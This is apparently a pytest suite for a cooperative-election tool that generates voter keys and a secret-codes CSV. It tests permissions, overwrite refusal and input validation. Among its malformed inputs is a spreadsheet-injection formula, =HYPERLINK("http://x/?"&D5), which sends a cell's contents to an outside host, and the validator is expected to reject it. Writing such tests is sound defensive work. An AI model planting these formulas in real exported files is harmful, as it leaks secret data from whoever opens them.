"""``intercoop-credentials make`` writes the public keys file and the secret codes CSV (mode
0600), never replaces an existing file, and on bad input prints ``error: ...`` (no traceback),
exits 1 and writes nothing."""

from __future__ import annotations

import copy
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from intercoop.ballots.tests.test_credentials_helpers import (
    VOTERS,
    read_codes,
    read_json,
    run,
    server_reads,
    server_voters_file,
    write_json,
)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_csv_is_readable_by_its_owner_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    keys, codes = tmp_path / "keys.json", tmp_path / "codes.csv"

    assert run("make", server_voters_file(tmp_path), "--keys", keys, "--codes", codes) == 0

    assert _mode(codes) == 0o600
    umask = os.umask(0o022)
    os.umask(umask)
    assert _mode(keys) == 0o666 & ~umask  # public: as any file this user makes
    assert len(read_codes(codes)) == len(VOTERS)
    assert len(server_reads(read_json(keys))) == len(VOTERS)
    captured = capsys.readouterr()
    assert f"{len(VOTERS)} credentials made" in captured.out
    assert f"hand in {keys}" in captured.out
    assert "SECRET" in captured.out
    assert "mail merge" in captured.out
    assert "destroy" in captured.out
    assert "1 voter(s) have no email address" in captured.err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["codes.csv", "keys.json", "voters.json"]


@pytest.mark.parametrize("existing", ["keys", "codes"])
def test_an_existing_output_is_not_replaced(
    tmp_path: Path, existing: str, capsys: pytest.CaptureFixture[str]
) -> None:
    voters = server_voters_file(tmp_path)
    outputs = {"keys": tmp_path / "keys.json", "codes": tmp_path / "codes.csv"}
    outputs[existing].write_text("kept")

    status = run("make", voters, "--keys", outputs["keys"], "--codes", outputs["codes"])

    assert status == 1
    assert f"error: {outputs[existing]} already exists; it was not replaced" in (
        capsys.readouterr().err
    )
    assert outputs[existing].read_text() == "kept"
    other = outputs["codes" if existing == "keys" else "keys"]
    assert not other.exists()


def test_a_second_run_does_not_replace_the_first_runs_files(tmp_path: Path) -> None:
    voters = server_voters_file(tmp_path)
    keys, codes = tmp_path / "keys.json", tmp_path / "codes.csv"
    assert run("make", voters, "--keys", keys, "--codes", codes) == 0
    before = (keys.read_bytes(), codes.read_bytes())

    assert run("make", voters, "--keys", keys, "--codes", codes) == 1

    assert (keys.read_bytes(), codes.read_bytes()) == before


def test_the_same_file_for_both_outputs_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    same = tmp_path / "out"

    assert run("make", server_voters_file(tmp_path), "--keys", same, "--codes", same) == 1

    assert "error: --keys and --codes are the same file" in capsys.readouterr().err
    assert not same.exists()


def test_when_the_keys_cannot_be_written_no_codes_are_left(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    codes = tmp_path / "codes.csv"

    status = run(
        "make", server_voters_file(tmp_path), "--keys", tmp_path / "no" / "k.json", "--codes", codes
    )

    assert status == 1
    assert "error: cannot write in" in capsys.readouterr().err
    assert not codes.exists()


Mutation = Callable[[Any], Any]


def _edit(change: Callable[[Any], None]) -> Mutation:
    def mutate(value: Any) -> Any:
        changed = copy.deepcopy(value)
        change(changed)
        return changed

    return mutate


MALFORMED: dict[str, tuple[bytes | Mutation, str]] = {
    "not JSON": (b"{", "not valid JSON"),
    "not UTF-8": (b'{"format": "\xff"}', "not valid JSON"),
    "a duplicate key": (
        b'{"format": "intercoop-credential-voters", "format": "x"}',
        "duplicate key 'format'",
    ),
    "NaN": (b'{"version": NaN}', "NaN is not allowed"),
    "a list": (b"[]", "voters file: expected a JSON object"),
    "a keys file": (
        _edit(lambda v: v.update(format="intercoop-credential-keys")),
        "this is not a voters file",
    ),
    "version 2": (_edit(lambda v: v.update(version=2)), "version 2 is not supported"),
    "no voters": (_edit(lambda v: v.update(voters=[])), "voters: there are no voters"),
    "a voter listed twice": (
        _edit(lambda v: v["voters"][2].update(voter=v["voters"][0]["voter"])),
        "voters[2]: voter 17 is listed twice",
    ),
    "a voter id of 0": (
        _edit(lambda v: v["voters"][0].update(voter=0)),
        "voters[0].voter: expected an integer in [1,",
    ),
    "a negative voter id": (
        _edit(lambda v: v["voters"][0].update(voter=-3)),
        "voters[0].voter: expected an integer in [1,",
    ),
    "a voter id that is a float": (
        _edit(lambda v: v["voters"][0].update(voter=17.0)),
        "voters[0].voter: expected an integer",
    ),
    "a college that is no identifier": (
        _edit(lambda v: v["voters"][1].update(college="Users!")),
        "voters[1].college: expected an identifier",
    ),
    "a name too long": (
        _edit(lambda v: v["voters"][0].update(name="x" * 301)),
        "voters[0].name: expected a string of at most 300 characters",
    ),
    "a name that is null": (
        _edit(lambda v: v["voters"][0].update(name=None)),
        "voters[0].name: expected a string",
    ),
    "a line break in a name": (
        _edit(lambda v: v["voters"][0].update(name="Ana\nLima")),
        "voters[0].name: control characters are not allowed",
    ),
    "a formula as a name": (
        _edit(lambda v: v["voters"][3].update(name='=HYPERLINK("http://x/?"&D5)')),
        "voters[3].name: must not start with =",
    ),
    "a formula as an email": (
        _edit(lambda v: v["voters"][0].update(email="@SUM(1)")),
        "voters[0].email: must not start with",
    ),
    "an extra field": (
        _edit(lambda v: v["voters"][0].update(code="x")),
        "voters[0]: unknown key(s) code",
    ),
    "a short description hash": (
        _edit(lambda v: v.update(description_hash="ab")),
        "description_hash: expected 32 bytes",
    ),
    "an election id that is no identifier": (
        _edit(lambda v: v.update(election_id="Coop Vote")),
        "election_id: expected an identifier",
    ),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_a_malformed_voters_file_gives_an_error_and_exit_1(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    content, message = MALFORMED[case]
    voters = server_voters_file(tmp_path)
    if isinstance(content, bytes):
        voters.write_bytes(content)
    else:
        write_json(voters, content(read_json(voters)))
    keys, codes = tmp_path / "keys.json", tmp_path / "codes.csv"

    status = run("make", voters, "--keys", keys, "--codes", codes)

    assert status == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert message in err
    assert "Traceback" not in err
    assert not keys.exists()
    assert not codes.exists()


def test_a_missing_voters_file_gives_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = run(
        "make", tmp_path / "none.json", "--keys", tmp_path / "k", "--codes", tmp_path / "c"
    )

    assert status == 1
    assert "error: cannot read the voters file" in capsys.readouterr().err


def test_the_csv_quotes_commas_and_quotes(tmp_path: Path) -> None:
    codes = tmp_path / "codes.csv"
    run("make", server_voters_file(tmp_path), "--keys", tmp_path / "k.json", "--codes", codes)

    raw = codes.read_bytes().decode("utf-8")
    assert '"Bo ""Bob"" Berg, Jr.",bo@example.org,users,' in raw
    assert [row["name"] for row in read_codes(codes)] == [v["name"] for v in VOTERS]
    assert "\r\nChloé Dupré,chloe@example.org,users," in raw
